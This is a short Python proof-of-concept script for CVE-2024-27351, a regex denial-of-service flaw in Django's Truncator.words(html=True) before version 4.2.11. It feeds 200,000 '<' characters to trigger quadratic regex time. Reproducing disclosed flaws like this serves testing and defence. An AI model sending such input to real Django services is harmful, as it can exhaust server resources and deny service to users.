# PYSEC-2024-47 (CVE-2024-27351): Django before 4.2.11, Truncator.words(html=True) matches words and tags with the
# regex <[^>]+?>|([^<>\s]+), which takes quadratic time on text made only of open brackets "<<<...".
from django.conf import settings

settings.configure(USE_I18N=False)
from django.utils.text import Truncator  # noqa: E402

Truncator("<" * 200_000).words(1, html=True)
